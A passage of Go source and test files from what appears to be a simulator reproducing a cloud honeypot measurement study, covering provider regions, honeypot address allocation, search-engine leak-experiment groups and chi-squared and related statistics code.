	if Orion.Kind() != netsim.KindTelescope {
		t.Error("telescope kind")
	}
}

func TestMultiCloudCityPairCount(t *testing.T) {
	// NA/EU same-city pairs feed Table 7's cloud–cloud column (paper
	// n=10 with a larger fleet; this deployment yields 7).
	if got := len(CloudCloudPairs()); got != 7 {
		t.Errorf("cloud-cloud pairs = %d, want 7", got)
	}
	// Every referenced region must exist in the deployment.
	valid := map[string]bool{}
	for _, r := range GreyNoiseRegions {
		valid[r.Key()] = true
	}
	for _, c := range MultiCloudCities {
		for p, key := range c.Regions {
			if !valid[key] {
				t.Errorf("city %s references unknown region %s (%s)", c.City, key, p)
			}
		}
	}
}

func TestBuildDeployment(t *testing.T) {
	cfg := DefaultConfig(42, 2021)
	d, err := Build(cfg)
	if err != nil {
		t.Fatal(err)
	}

	// Unique IPs and IDs (enforced again by NewUniverse).
	u, err := d.Universe(42, 2021)
	if err != nil {
		t.Fatal(err)
	}

	// GreyNoise honeypots: 47 regions x 4 + HE x 64.
	gn := u.Filter(func(tg *netsim.Target) bool { return tg.Collector == netsim.CollectGreyNoise })
	wantGN := 47*4 + 64
	if len(gn) != wantGN {
		t.Errorf("GreyNoise honeypots = %d, want %d", len(gn), wantGN)
	}

	// Honeytrap: 64*4 + 2 + leak experiment 33.
	ht := u.Filter(func(tg *netsim.Target) bool { return tg.Collector == netsim.CollectHoneytrap })
	wantHT := 64*4 + 2 + 33
	if len(ht) != wantHT {
		t.Errorf("Honeytrap honeypots = %d, want %d", len(ht), wantHT)
	}

	if got := u.TelescopeSize(); got != 128*256 {
		t.Errorf("telescope size = %d, want %d", got, 128*256)
	}
}

func TestBuildHTTPRestriction(t *testing.T) {
	d, err := Build(DefaultConfig(1, 2021))
	if err != nil {
		t.Fatal(err)
	}
	u, err := d.Universe(1, 2021)
	if err != nil {
		t.Fatal(err)
	}
	region := u.Region("aws:ap-singapore")
	if len(region) != 4 {
		t.Fatalf("aws:ap-singapore has %d honeypots, want 4", len(region))
	}
	httpCount := 0
	sshCount := 0
	for _, tg := range region {
		if tg.ListensOn(80) {
			httpCount++
		}
		if tg.ListensOn(22) {
			sshCount++
		}
	}
	if httpCount != 2 {
		t.Errorf("HTTP honeypots in region = %d, want 2 (Table 1: '4 or 2 (HTTP)')", httpCount)
	}
	if sshCount != 4 {
		t.Errorf("SSH honeypots in region = %d, want 4", sshCount)
	}
}

func TestBuildLeakGroups(t *testing.T) {
	d, err := Build(DefaultConfig(7, 2021))
	if err != nil {
		t.Fatal(err)
	}
	control, prev, leaked := 0, 0, 0
	censysLeaks := map[uint16]int{}
	for _, tg := range d.Targets {
		switch tg.Region {
		case "stanford:leak:control":
			control++
			if !tg.BlockSearch || tg.PrevIndexed {
				t.Error("control group flags wrong")
			}
		case "stanford:leak:prevleaked":
			prev++
			if !tg.BlockSearch || !tg.PrevIndexed {
				t.Error("previously-leaked group flags wrong")
			}
		case "stanford:leak:leaked":
			leaked++
			if tg.LeakEngine == "" || tg.LeakPort == 0 {
				t.Error("leaked group needs engine and port")
			}
			if tg.LeakEngine == "censys" {
				censysLeaks[tg.LeakPort]++
			}
		}
	}
	if control != 8 || prev != 7 || leaked != 18 {
		t.Errorf("leak groups = %d/%d/%d, want 8/7/18", control, prev, leaked)
	}
	for _, port := range []uint16{22, 23, 80} {
		if censysLeaks[port] != 3 {
			t.Errorf("censys leak group for port %d = %d, want 3", port, censysLeaks[port])
		}
	}
}

func TestBuildDeterministic(t *testing.T) {
	a, err := Build(DefaultConfig(99, 2021))
	if err != nil {
		t.Fatal(err)
	}
	b, err := Build(DefaultConfig(99, 2021))
	if err != nil {
		t.Fatal(err)
	}
	if len(a.Targets) != len(b.Targets) {
		t.Fatalf("target counts differ: %d vs %d", len(a.Targets), len(b.Targets))
	}
	for i := range a.Targets {
		if a.Targets[i].IP != b.Targets[i].IP || a.Targets[i].ID != b.Targets[i].ID {
			t.Fatalf("target %d differs between identical builds", i)
		}
	}
}

func TestBuildSeedChangesAddresses(t *testing.T) {
	a, _ := Build(DefaultConfig(1, 2021))
	b, _ := Build(DefaultConfig(2, 2021))
	same := 0
	for i := range a.Targets {
		if a.Targets[i].IP == b.Targets[i].IP {
			same++
		}
	}
	if same > len(a.Targets)/10 {
		t.Errorf("%d/%d addresses identical across seeds", same, len(a.Targets))
	}
}

func TestBuildAddressInvariants(t *testing.T) {
	d, err := Build(DefaultConfig(5, 2021))
	if err != nil {
		t.Fatal(err)
	}
	for _, tg := range d.Targets {
		// The paper notes none of the cloud honeypots have a non-final
		// 255 octet; our allocator avoids .0 and .255 entirely.
		oct := tg.IP.Octets()
		if oct[3] == 0 || oct[3] == 255 {
			t.Errorf("honeypot %s has reserved last octet %v", tg.ID, tg.IP)
		}
		pool := Pool(Provider(tg.Network))
		if !pool.Contains(tg.IP) {
			t.Errorf("honeypot %s IP %v outside pool %v", tg.ID, tg.IP, pool)
		}
	}
}

func TestBuildRejectsBadConfig(t *testing.T) {
	cfg := DefaultConfig(1, 2021)
	cfg.GreyNoisePerRegion = 1
	if _, err := Build(cfg); err == nil {
		t.Error("GreyNoisePerRegion=1 should be rejected")
	}
	cfg = DefaultConfig(1, 2021)
	cfg.TelescopeSlash24s = 0
	if _, err := Build(cfg); err == nil {
		t.Error("TelescopeSlash24s=0 should be rejected")
	}
}

func TestPoolsDisjoint(t *testing.T) {
	providers := []Provider{AWS, Google, Azure, Linode, Hurricane, Stanford, Merit, Orion}
	for i, p := range providers {
		for _, q := range providers[i+1:] {
			a, b := Pool(p), Pool(q)
			if a.Contains(b.Base) || b.Contains(a.Base) {
				t.Errorf("pools %s and %s overlap", p, q)
			}
		}
	}
}
