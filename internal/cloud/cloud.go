// Package cloud models the deployment substrate of the paper's §3.1:
// five cloud providers across 23 countries, two education networks,
// and the Orion network telescope (Table 1), plus the multi-cloud city
// matrix of Table 6. It allocates honeypot IPs inside provider address
// pools — a randomly-assigned, recycled address space, which is what
// makes §4's IP-structure and service-history effects possible — and
// produces the netsim.Target set the simulation runs against.
package cloud

import (
	"fmt"

	"cloudwatch/internal/netsim"
	"cloudwatch/internal/wire"
)

// Provider identifies a monitored network.
type Provider string

// The eight networks of Table 1.
const (
	AWS       Provider = "aws"
	Google    Provider = "google"
	Azure     Provider = "azure"
	Linode    Provider = "linode"
	Hurricane Provider = "he"
	Stanford  Provider = "stanford"
	Merit     Provider = "merit"
	Orion     Provider = "orion"
)

// Kind returns the network kind of the provider.
func (p Provider) Kind() netsim.NetworkKind {
	switch p {
	case Stanford, Merit:
		return netsim.KindEducation
	case Orion:
		return netsim.KindTelescope
	default:
		return netsim.KindCloud
	}
}

// Region is one (provider, geography) deployment location.
type Region struct {
	Provider Provider
	Name     string // short region slug, e.g. "ap-sydney"
	Geo      netsim.Geo
}

// Key returns the stable region identifier "provider:name".
func (r Region) Key() string { return fmt.Sprintf("%s:%s", r.Provider, r.Name) }

func geo(country, sub, city, continent string) netsim.Geo {
	return netsim.Geo{Country: country, Sub: sub, City: city, Continent: continent}
}

// GreyNoiseRegions lists the GreyNoise vantage regions of Table 1:
// AWS 16, Azure 3, Google 21, Linode 7, Hurricane Electric 1.
var GreyNoiseRegions = []Region{
	// AWS: US (OR), US (CA), US (GA), BR, BH, FR, IE, DE, CA, AU, SG,
	// IN, KR, JP, HK, ZA.
	{AWS, "us-oregon", geo("US", "OR", "PDX", "NA")},
	{AWS, "us-california", geo("US", "CA", "SFO", "NA")},
	{AWS, "us-georgia", geo("US", "GA", "ATL", "NA")},
	{AWS, "sa-saopaulo", geo("BR", "", "GRU", "OTHER")},
	{AWS, "me-bahrain", geo("BH", "", "BAH", "OTHER")},
	{AWS, "eu-paris", geo("FR", "", "PAR", "EU")},
	{AWS, "eu-dublin", geo("IE", "", "DUB", "EU")},
	{AWS, "eu-frankfurt", geo("DE", "", "FRA", "EU")},
	{AWS, "ca-montreal", geo("CA", "", "YUL", "NA")},
	{AWS, "ap-sydney", geo("AU", "", "SYD", "APAC")},
	{AWS, "ap-singapore", geo("SG", "", "SIN", "APAC")},
	{AWS, "ap-mumbai", geo("IN", "", "BOM", "APAC")},
	{AWS, "ap-seoul", geo("KR", "", "ICN", "APAC")},
	{AWS, "ap-tokyo", geo("JP", "", "NRT", "APAC")},
	{AWS, "ap-hongkong", geo("HK", "", "HKG", "APAC")},
	{AWS, "af-capetown", geo("ZA", "", "CPT", "OTHER")},
	// Azure: US (TX), SG, IN.
	{Azure, "us-texas", geo("US", "TX", "SAT", "NA")},
	{Azure, "ap-singapore", geo("SG", "", "SIN", "APAC")},
	{Azure, "ap-pune", geo("IN", "", "PNQ", "APAC")},
	// Google: US (NV), US (UT), US (CA), US (OR), US (VA), US (SC),
	// US (IA), QC, CH, NL, DE, GB, BE, FI, AU, ID, SG, KR, JP, HK, TW.
	{Google, "us-nevada", geo("US", "NV", "LAS", "NA")},
	{Google, "us-utah", geo("US", "UT", "SLC", "NA")},
	{Google, "us-california", geo("US", "CA", "LAX", "NA")},
	{Google, "us-oregon", geo("US", "OR", "PDX", "NA")},
	{Google, "us-virginia", geo("US", "VA", "IAD", "NA")},
	{Google, "us-southcarolina", geo("US", "SC", "CAE", "NA")},
	{Google, "us-iowa", geo("US", "IA", "DSM", "NA")},
	{Google, "ca-quebec", geo("CA", "QC", "YUL", "NA")},
	{Google, "eu-zurich", geo("CH", "", "ZRH", "EU")},
	{Google, "eu-netherlands", geo("NL", "", "AMS", "EU")},
	{Google, "eu-frankfurt", geo("DE", "", "FRA", "EU")},
	{Google, "eu-london", geo("GB", "", "LON", "EU")},
	{Google, "eu-belgium", geo("BE", "", "BRU", "EU")},
	{Google, "eu-finland", geo("FI", "", "HEL", "EU")},
	{Google, "ap-sydney", geo("AU", "", "SYD", "APAC")},
	{Google, "ap-jakarta", geo("ID", "", "CGK", "APAC")},
	{Google, "ap-singapore", geo("SG", "", "SIN", "APAC")},
	{Google, "ap-seoul", geo("KR", "", "ICN", "APAC")},
	{Google, "ap-tokyo", geo("JP", "", "NRT", "APAC")},
	{Google, "ap-hongkong", geo("HK", "", "HKG", "APAC")},
	{Google, "ap-taiwan", geo("TW", "", "TPE", "APAC")},
	// Linode: US (CA), US (NY), UK, DE, IN, AU, SG.
	{Linode, "us-california", geo("US", "CA", "FMT", "NA")},
	{Linode, "us-newyork", geo("US", "NY", "EWR", "NA")},
	{Linode, "eu-london", geo("GB", "", "LON", "EU")},
	{Linode, "eu-frankfurt", geo("DE", "", "FRA", "EU")},
	{Linode, "ap-mumbai", geo("IN", "", "BOM", "APAC")},
	{Linode, "ap-sydney", geo("AU", "", "SYD", "APAC")},
	{Linode, "ap-singapore", geo("SG", "", "SIN", "APAC")},
	// Hurricane Electric: one /24 in US (OH).
	{Hurricane, "us-ohio", geo("US", "OH", "CMH", "NA")},
}

// HoneytrapRegions lists the Honeytrap deployments: the two education
// /26 networks plus the cloud /26s deployed beside them (§3.1,
// "to eliminate biases when directly comparing the education and cloud
// honeypots").
var HoneytrapRegions = []Region{
	{Stanford, "us-west", geo("US", "CA", "STF", "NA")},
	{AWS, "ht-us-west", geo("US", "CA", "SFO", "NA")},
	{Google, "ht-us-west", geo("US", "CA", "LAX", "NA")},
	{Merit, "us-east", geo("US", "MI", "MER", "NA")},
	{Google, "ht-us-east", geo("US", "MI", "DET", "NA")},
}

// TelescopeRegion is the Orion network telescope (US East).
var TelescopeRegion = Region{Orion, "us-east", geo("US", "MI", "MER", "NA")}

// MultiCloudCity is one row of Table 6: a city hosting honeypots in
// several clouds, used for cloud-to-cloud comparisons that "minimize
// geographic biases". Regions maps each provider to its region key in
// this deployment.
type MultiCloudCity struct {
	City    string
	Regions map[Provider]string
	// APACOnly marks cities excluded from the cloud–cloud statistics
	// per the paper's footnote 7 ("we are only able to verify this
	// result in North America and Europe").
	APACOnly bool
}

// MultiCloudCities mirrors Table 6 for this deployment: every city
// whose honeypots exist in more than one cloud. The NA/EU rows drive
// Table 7's cloud–cloud comparisons.
var MultiCloudCities = []MultiCloudCity{
	{"CA-US", map[Provider]string{AWS: "aws:us-california", Google: "google:us-california", Linode: "linode:us-california"}, false},
	{"OR-US", map[Provider]string{AWS: "aws:us-oregon", Google: "google:us-oregon"}, false},
	{"FRA-DE", map[Provider]string{AWS: "aws:eu-frankfurt", Google: "google:eu-frankfurt", Linode: "linode:eu-frankfurt"}, false},
	{"SIN-SG", map[Provider]string{AWS: "aws:ap-singapore", Google: "google:ap-singapore", Linode: "linode:ap-singapore", Azure: "azure:ap-singapore"}, true},
	{"SYD-AU", map[Provider]string{AWS: "aws:ap-sydney", Google: "google:ap-sydney", Linode: "linode:ap-sydney"}, true},
	{"BOM-IN", map[Provider]string{AWS: "aws:ap-mumbai", Linode: "linode:ap-mumbai"}, true},
}

// CloudCloudPairs returns the NA/EU same-city cross-provider region
// pairs used in Table 7's cloud–cloud column.
func CloudCloudPairs() [][2]string {
	var out [][2]string
	for _, c := range MultiCloudCities {
		if c.APACOnly {
			continue
		}
		var keys []string
		for _, p := range []Provider{AWS, Google, Azure, Linode} {
			if r, ok := c.Regions[p]; ok {
				keys = append(keys, r)
			}
		}
		for i := 0; i < len(keys); i++ {
			for j := i + 1; j < len(keys); j++ {
				out = append(out, [2]string{keys[i], keys[j]})
			}
		}
	}
	return out
}

// pools assigns each provider a distinct documentation-style super-
// block; honeypot IPs are drawn from per-region /24s inside it. The
// telescope gets its own /15-equivalent range carved from 100.64/10.
var pools = map[Provider]wire.Block{
	AWS:       wire.MustParseBlock("52.16.0.0/14"),
	Google:    wire.MustParseBlock("34.64.0.0/14"),
	Azure:     wire.MustParseBlock("20.192.0.0/14"),
	Linode:    wire.MustParseBlock("172.104.0.0/15"),
	Hurricane: wire.MustParseBlock("216.218.128.0/17"),
	Stanford:  wire.MustParseBlock("171.64.0.0/16"),
	Merit:     wire.MustParseBlock("198.108.0.0/16"),
	Orion:     wire.MustParseBlock("100.64.0.0/13"),
}

// Pool returns the address pool of a provider.
func Pool(p Provider) wire.Block { return pools[p] }
