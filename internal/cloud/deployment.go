package cloud

import (
	"fmt"
	"math/rand"

	"cloudwatch/internal/netsim"
	"cloudwatch/internal/wire"
)

// GreyNoisePorts are the "at least seven popular ports" every
// GreyNoise honeypot exposes (§3.1): interactive SSH/Telnet plus
// handshake-and-first-payload services.
var GreyNoisePorts = []uint16{22, 2222, 23, 2323, 80, 8080, 443}

// HTTPRestrictedPorts are the ports only the first two honeypots of a
// region expose, matching Table 1's "4 or 2 (HTTP)" vantage counts.
var HTTPRestrictedPorts = map[uint16]bool{80: true, 8080: true, 443: true}

// Config sizes a deployment. The zero value is unusable; use
// DefaultConfig.
type Config struct {
	Seed int64
	Year int

	GreyNoisePerRegion int // honeypots per GreyNoise region (paper: 4)
	HoneytrapPerCloud  int // honeytrap IPs per /26 deployment (paper: 64)
	HurricaneIPs       int // HE /24 honeypot count (paper: 256)
	TelescopeSlash24s  int // telescope size in /24s (paper: 1856)

	// LeakExperiment adds the §4.3 control/previously-leaked/leaked
	// honeypot groups on the Stanford network.
	LeakExperiment bool
}

// DefaultConfig returns the standard study deployment, scaled so a
// full week simulates in seconds: the telescope defaults to 128 /24s
// (32K addresses) instead of Orion's 1856, and the HE /24 honeypot
// fleet to 64 IPs instead of 256. Use AtPaperScale to reproduce the
// paper's full Table 1 scale.
func DefaultConfig(seed int64, year int) Config {
	return Config{
		Seed:               seed,
		Year:               year,
		GreyNoisePerRegion: 4,
		HoneytrapPerCloud:  64,
		HurricaneIPs:       64,
		TelescopeSlash24s:  128,
		LeakExperiment:     true,
	}
}

// AtPaperScale returns the configuration scaled to the paper's full
// Table 1 deployment: the complete Orion telescope (1856 /24s) and
// the complete Hurricane Electric /24 honeypot fleet (256 IPs). The
// GreyNoise and Honeytrap fleets already default to Table 1's layout
// (4 honeypots per region, 64 IPs per /26), so only the two
// down-scaled knobs move.
func (c Config) AtPaperScale() Config {
	c.TelescopeSlash24s = 1856
	c.HurricaneIPs = 256
	return c
}

// Deployment is a built vantage-point set plus the telescope ranges.
type Deployment struct {
	Targets         []*netsim.Target
	TelescopeBlocks []wire.Block
}

// Universe wraps the deployment into a netsim.Universe.
func (d *Deployment) Universe(seed int64, year int) (*netsim.Universe, error) {
	u, err := netsim.NewUniverse(seed, year, d.Targets)
	if err != nil {
		return nil, err
	}
	u.TelescopeBlocks = d.TelescopeBlocks
	return u, nil
}

// Build constructs the Table 1 deployment: GreyNoise honeypots in
// every region, Honeytrap /26s in the education networks and their
// neighboring cloud regions, the Hurricane Electric /24, the leak-
// experiment groups, and the telescope ranges.
func Build(cfg Config) (*Deployment, error) {
	if cfg.GreyNoisePerRegion < 2 {
		return nil, fmt.Errorf("cloud: GreyNoisePerRegion must be >= 2, got %d", cfg.GreyNoisePerRegion)
	}
	if cfg.TelescopeSlash24s < 1 {
		return nil, fmt.Errorf("cloud: TelescopeSlash24s must be >= 1, got %d", cfg.TelescopeSlash24s)
	}
	d := &Deployment{}
	alloc := newAllocator(cfg.Seed)

	for _, r := range GreyNoiseRegions {
		n := cfg.GreyNoisePerRegion
		if r.Provider == Hurricane {
			n = cfg.HurricaneIPs
		}
		for i := 0; i < n; i++ {
			ports := GreyNoisePorts
			// Only the first two honeypots expose the HTTP-family
			// ports ("4 or 2 (HTTP)" in Table 1). The HE /24 exposes
			// everything everywhere.
			if r.Provider != Hurricane && i >= 2 {
				ports = nonHTTPPorts()
			}
			ip, err := alloc.next(r)
			if err != nil {
				return nil, err
			}
			d.Targets = append(d.Targets, &netsim.Target{
				ID:        fmt.Sprintf("%s:%d", r.Key(), i),
				IP:        ip,
				Network:   string(r.Provider),
				Kind:      r.Provider.Kind(),
				Region:    r.Key(),
				Geo:       r.Geo,
				Collector: netsim.CollectGreyNoise,
				Ports:     ports,
			})
		}
	}

	for _, r := range HoneytrapRegions {
		n := cfg.HoneytrapPerCloud
		if r.Provider == Google && r.Name == "ht-us-east" {
			n = 2 // Table 1: 2 IPs near Merit
		}
		for i := 0; i < n; i++ {
			ip, err := alloc.next(r)
			if err != nil {
				return nil, err
			}
			d.Targets = append(d.Targets, &netsim.Target{
				ID:        fmt.Sprintf("%s:%d", r.Key(), i),
				IP:        ip,
				Network:   string(r.Provider),
				Kind:      r.Provider.Kind(),
				Region:    r.Key(),
				Geo:       r.Geo,
				Collector: netsim.CollectHoneytrap,
				Ports:     honeytrapPorts(),
			})
		}
	}

	if cfg.LeakExperiment {
		d.Targets = append(d.Targets, leakTargets(alloc)...)
	}

	// Telescope ranges carved from the Orion pool.
	pool := Pool(Orion)
	for i := 0; i < cfg.TelescopeSlash24s; i++ {
		d.TelescopeBlocks = append(d.TelescopeBlocks, wire.Block{
			Base: pool.Base + wire.Addr(i*256),
			Bits: 24,
		})
	}
	return d, nil
}

// honeytrapPorts: Honeytrap collects the first payload on any port;
// for target selection we advertise the popular TCP ports the paper
// analyzes (Tables 8 and 9).
func honeytrapPorts() []uint16 {
	return []uint16{21, 22, 23, 25, 80, 443, 2222, 2323, 7547, 8080}
}

func nonHTTPPorts() []uint16 {
	var out []uint16
	for _, p := range GreyNoisePorts {
		if !HTTPRestrictedPorts[p] {
			out = append(out, p)
		}
	}
	return out
}

// leakTargets builds the §4.3 experiment groups on the Stanford
// network: 8 control IPs (search engines blocked, no history), 7
// previously-leaked IPs (history, engines blocked now), 18 leaked IPs
// (groups of 3 allowing one engine to find one protocol).
func leakTargets(alloc *allocator) []*netsim.Target {
	region := Region{Stanford, "leak", netsim.Geo{Country: "US", Sub: "CA", City: "STF", Continent: "NA"}}
	ports := []uint16{22, 23, 80}
	var out []*netsim.Target

	add := func(group string, i int, mutate func(t *netsim.Target)) {
		ip, err := alloc.next(region)
		if err != nil {
			panic("cloud: leak experiment allocation failed: " + err.Error())
		}
		t := &netsim.Target{
			ID:          fmt.Sprintf("%s:%s:%d", region.Key(), group, i),
			IP:          ip,
			Network:     string(Stanford),
			Kind:        netsim.KindEducation,
			Region:      region.Key() + ":" + group,
			Geo:         region.Geo,
			Collector:   netsim.CollectHoneytrap,
			Ports:       ports,
			EmulateAuth: true, // §4.3 hosts emulate SSH/Telnet/HTTP
		}
		mutate(t)
		out = append(out, t)
	}

	for i := 0; i < 8; i++ {
		add("control", i, func(t *netsim.Target) { t.BlockSearch = true })
	}
	for i := 0; i < 7; i++ {
		add("prevleaked", i, func(t *netsim.Target) {
			t.BlockSearch = true
			t.PrevIndexed = true
		})
	}
	// 18 leaked: engine × protocol grid, 3 IPs per cell.
	engines := []string{"censys", "shodan"}
	leakPorts := []uint16{80, 22, 23}
	i := 0
	for _, eng := range engines {
		for _, port := range leakPorts {
			for k := 0; k < 3; k++ {
				eng, port := eng, port
				add("leaked", i, func(t *netsim.Target) {
					t.LeakEngine = eng
					t.LeakPort = port
				})
				i++
			}
		}
	}
	return out
}

// allocator hands out unique honeypot IPs: one or more /24s per
// region, random last octets in [1, 254] — cloud providers do not
// assign .0/.255 to instances, matching the paper's note that no cloud
// honeypot has a non-final 255 octet.
type allocator struct {
	rng   *rand.Rand
	used  map[wire.Addr]bool
	slash map[string]wire.Block
}

func newAllocator(seed int64) *allocator {
	return &allocator{
		rng:   netsim.Stream(seed, "cloud-allocator"),
		used:  map[wire.Addr]bool{},
		slash: map[string]wire.Block{},
	}
}

func (a *allocator) next(r Region) (wire.Addr, error) {
	key := r.Key()
	blk, ok := a.slash[key]
	if !ok {
		blk = a.pickSlash24(r)
		a.slash[key] = blk
	}
	for attempt := 0; attempt < 4096; attempt++ {
		ip := blk.Nth(1 + a.rng.Intn(254))
		if !a.used[ip] {
			a.used[ip] = true
			return ip, nil
		}
		// A dense region (e.g. the HE /24) may exhaust its /24: chain
		// to the following /24.
		if attempt == 2047 {
			blk = wire.Block{Base: blk.Base + 256, Bits: 24}
			a.slash[key] = blk
		}
	}
	return 0, fmt.Errorf("cloud: address pool exhausted for region %s", key)
}

func (a *allocator) pickSlash24(r Region) wire.Block {
	pool := Pool(r.Provider)
	n24 := pool.Size() / 256
	for {
		blk := wire.Block{Base: pool.Base + wire.Addr(a.rng.Intn(n24)*256), Bits: 24}
		if !a.used[blk.Base] {
			a.used[blk.Base] = true // reserve the .0 as a collision marker
			return blk
		}
	}
}
