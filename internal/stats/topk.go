package stats

import "sort"

// Freq is a frequency table over string-keyed categories (ASes,
// usernames, passwords, payload hashes, ...).
type Freq map[string]float64

// Add increments the count of key by n.
func (f Freq) Add(key string, n float64) { f[key] += n }

// Total returns the sum of all counts.
func (f Freq) Total() float64 {
	t := 0.0
	for _, v := range f {
		t += v
	}
	return t
}

// Clone returns a deep copy of the table.
func (f Freq) Clone() Freq {
	c := make(Freq, len(f))
	for k, v := range f {
		c[k] = v
	}
	return c
}

// TopK returns the k highest-count keys, ties broken by lexicographic
// key order so results are deterministic across runs. Fewer than k
// keys are returned when the table is smaller.
func (f Freq) TopK(k int) []string {
	keys := make([]string, 0, len(f))
	for key := range f {
		keys = append(keys, key)
	}
	sort.Slice(keys, func(a, b int) bool {
		if f[keys[a]] != f[keys[b]] {
			return f[keys[a]] > f[keys[b]]
		}
		return keys[a] < keys[b]
	})
	if len(keys) > k {
		keys = keys[:k]
	}
	return keys
}

// UnionTopK returns the sorted union of each table's top-k keys. This
// is the category set of the paper's §3.3 methodology: "we always
// choose the most popular 3 values for each characteristic for each
// vantage point and perform the chi-squared test on the union of all
// unique top 3 characteristics across vantage points."
func UnionTopK(k int, tables ...Freq) []string {
	set := map[string]struct{}{}
	for _, t := range tables {
		for _, key := range t.TopK(k) {
			set[key] = struct{}{}
		}
	}
	union := make([]string, 0, len(set))
	for key := range set {
		union = append(union, key)
	}
	sort.Strings(union)
	return union
}

// Contingency builds an observed-count matrix with one row per table
// and one column per category, in the given category order.
func Contingency(categories []string, tables ...Freq) [][]float64 {
	obs := make([][]float64, len(tables))
	for i, t := range tables {
		row := make([]float64, len(categories))
		for j, c := range categories {
			row[j] = t[c]
		}
		obs[i] = row
	}
	return obs
}

// CompareTopK runs the full §3.3 comparison between two frequency
// tables: union of top-k categories, contingency table, chi-squared
// test. Categories in the union that have zero counts in both tables
// cannot occur (they came from a top-k), but a category may be zero in
// one table; all-zero *columns* are impossible by construction while
// all-zero rows (an empty vantage point) surface as ErrZeroMargin.
func CompareTopK(k int, a, b Freq) (ChiSquareResult, error) {
	cats := UnionTopK(k, a, b)
	if len(cats) < 2 {
		// Identical single-category tables: indistinguishable.
		return ChiSquareResult{P: 1, N: int(a.Total() + b.Total())}, nil
	}
	return ChiSquare(Contingency(cats, a, b))
}

// CompareBinary compares two (success, failure) splits — e.g. the
// "fraction malicious" characteristic — via a 2×2 chi-squared test.
func CompareBinary(aYes, aNo, bYes, bNo float64) (ChiSquareResult, error) {
	return ChiSquare([][]float64{{aYes, aNo}, {bYes, bNo}})
}
