// Package stats implements the statistical methodology of "Cloud
// Watching" §3.3: the chi-squared test of homogeneity with Bonferroni
// correction and Cramér's V effect sizes used for vantage-point
// comparisons, plus the one-sided Mann-Whitney U test and the
// two-sample Kolmogorov-Smirnov test used for the search-engine leak
// experiment (§4.3). All routines are pure Go (stdlib math only) and
// deterministic.
package stats

import (
	"errors"
	"math"
)

// ErrDomain reports an argument outside a function's domain.
var ErrDomain = errors.New("stats: argument out of domain")

const (
	gammaEpsilon = 1e-14
	gammaMaxIter = 600
)

// GammaP computes the regularized lower incomplete gamma function
// P(a, x) = γ(a, x) / Γ(a) for a > 0, x >= 0.
func GammaP(a, x float64) (float64, error) {
	if a <= 0 || x < 0 || math.IsNaN(a) || math.IsNaN(x) {
		return 0, ErrDomain
	}
	if x == 0 {
		return 0, nil
	}
	if x < a+1 {
		return gammaSeries(a, x), nil
	}
	return 1 - gammaContinuedFraction(a, x), nil
}

// GammaQ computes the regularized upper incomplete gamma function
// Q(a, x) = 1 - P(a, x). It is the survival function of the gamma
// distribution and yields chi-squared p-values via
// p = Q(k/2, x/2) for k degrees of freedom.
func GammaQ(a, x float64) (float64, error) {
	if a <= 0 || x < 0 || math.IsNaN(a) || math.IsNaN(x) {
		return 0, ErrDomain
	}
	if x == 0 {
		return 1, nil
	}
	if x < a+1 {
		return 1 - gammaSeries(a, x), nil
	}
	return gammaContinuedFraction(a, x), nil
}

// gammaSeries evaluates P(a,x) by its power series, valid for x < a+1.
func gammaSeries(a, x float64) float64 {
	lg, _ := math.Lgamma(a)
	ap := a
	sum := 1 / a
	del := sum
	for i := 0; i < gammaMaxIter; i++ {
		ap++
		del *= x / ap
		sum += del
		if math.Abs(del) < math.Abs(sum)*gammaEpsilon {
			break
		}
	}
	v := sum * math.Exp(-x+a*math.Log(x)-lg)
	return clamp01(v)
}

// gammaContinuedFraction evaluates Q(a,x) by its continued fraction
// (modified Lentz), valid for x >= a+1.
func gammaContinuedFraction(a, x float64) float64 {
	const tiny = 1e-300
	lg, _ := math.Lgamma(a)
	b := x + 1 - a
	c := 1 / tiny
	d := 1 / b
	h := d
	for i := 1; i <= gammaMaxIter; i++ {
		an := -float64(i) * (float64(i) - a)
		b += 2
		d = an*d + b
		if math.Abs(d) < tiny {
			d = tiny
		}
		c = b + an/c
		if math.Abs(c) < tiny {
			c = tiny
		}
		d = 1 / d
		del := d * c
		h *= del
		if math.Abs(del-1) < gammaEpsilon {
			break
		}
	}
	v := math.Exp(-x+a*math.Log(x)-lg) * h
	return clamp01(v)
}

// ChiSquareSurvival returns the probability that a chi-squared random
// variable with df degrees of freedom exceeds x (the p-value of an
// observed statistic x).
func ChiSquareSurvival(x float64, df int) (float64, error) {
	if df <= 0 {
		return 0, ErrDomain
	}
	if x <= 0 {
		return 1, nil
	}
	return GammaQ(float64(df)/2, x/2)
}

// NormalSurvival returns P(Z > z) for a standard normal Z, computed
// from the complementary error function.
func NormalSurvival(z float64) float64 {
	return 0.5 * math.Erfc(z/math.Sqrt2)
}

// KolmogorovSurvival returns the asymptotic survival function
// Q_KS(λ) = 2 Σ_{j≥1} (-1)^{j-1} exp(-2 j² λ²) of the Kolmogorov
// distribution, used for two-sample KS p-values.
func KolmogorovSurvival(lambda float64) float64 {
	if lambda <= 0 {
		return 1
	}
	const maxTerms = 101
	sum := 0.0
	sign := 1.0
	for j := 1; j < maxTerms; j++ {
		term := sign * math.Exp(-2*float64(j)*float64(j)*lambda*lambda)
		sum += term
		if math.Abs(term) < 1e-12*math.Abs(sum) {
			break
		}
		sign = -sign
	}
	return clamp01(2 * sum)
}

func clamp01(v float64) float64 {
	switch {
	case v < 0:
		return 0
	case v > 1:
		return 1
	default:
		return v
	}
}
