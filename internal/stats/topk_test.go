package stats

import (
	"math/rand"
	"reflect"
	"testing"
	"testing/quick"
)

func TestFreqBasics(t *testing.T) {
	f := Freq{}
	f.Add("a", 3)
	f.Add("a", 2)
	f.Add("b", 1)
	if f["a"] != 5 {
		t.Errorf("a = %v, want 5", f["a"])
	}
	if f.Total() != 6 {
		t.Errorf("total = %v, want 6", f.Total())
	}
	c := f.Clone()
	c.Add("a", 1)
	if f["a"] != 5 {
		t.Error("Clone is not a deep copy")
	}
}

func TestTopKOrderingAndTies(t *testing.T) {
	f := Freq{"zeta": 10, "alpha": 10, "mid": 5, "low": 1}
	got := f.TopK(3)
	want := []string{"alpha", "zeta", "mid"} // ties broken lexicographically
	if !reflect.DeepEqual(got, want) {
		t.Errorf("TopK = %v, want %v", got, want)
	}
	if got := f.TopK(10); len(got) != 4 {
		t.Errorf("TopK(10) len = %d, want 4", len(got))
	}
	if got := (Freq{}).TopK(3); len(got) != 0 {
		t.Errorf("TopK on empty = %v", got)
	}
}

func TestUnionTopK(t *testing.T) {
	a := Freq{"x": 9, "y": 8, "z": 7, "w": 1}
	b := Freq{"p": 9, "y": 8, "q": 7, "x": 1}
	got := UnionTopK(3, a, b)
	want := []string{"p", "q", "x", "y", "z"}
